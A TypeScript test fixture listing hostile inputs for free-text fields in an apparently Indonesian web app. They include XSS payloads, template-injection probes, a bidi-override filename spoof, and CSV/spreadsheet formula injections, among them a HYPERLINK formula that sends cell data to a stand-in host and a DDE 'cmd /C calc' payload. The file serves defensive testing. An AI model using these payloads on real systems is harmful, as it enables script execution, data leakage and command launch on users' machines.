// Hostile text an OPD operator or a meeting secretary could type into a free-text field: markup
// and script, template syntax, spreadsheet formulas, bidi overrides and a very long run.

/** A marker that only a script the page did not mean to run would set. */
export const XSS_FLAG = '__xss';

export const HOSTILE = {
  img: `<img src=x onerror="window.${XSS_FLAG}=1">`,
  script: `<script>window.${XSS_FLAG}=1</script>`,
  svg: `<svg onload="window.${XSS_FLAG}=1"></svg>`,
  javascriptUrl: `javascript:window.${XSS_FLAG}=1`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax is the point of this one
  template: '{{7*7}} ${7*7} <%= 7*7 %>',
  echartsRich: '{hl|merah} {a|b}',
  hyperlink: '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
  formula: '=1+1',
  plus: "+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+1)',
  commaFormula: 'Dana terlambat,=1+1',
  rtl: 'Laporan \u202Efdp.exe\u202C selesai',
} as const;

/** A long run without spaces (fits the 1000-character fields). */
export const LONG = `Panjang${'x'.repeat(900)}Akhir`;

/** Text a spreadsheet would run as a formula when a cell starts with it. */
export const FORMULA_START = /^[=+\-@\t\r]/;

/** The hostile strings, each tagged so a test can find where it landed. */
export const hostileTexts = (prefix = ''): string[] =>
  Object.values(HOSTILE).map((s) => (prefix ? `${s} ${prefix}` : s));
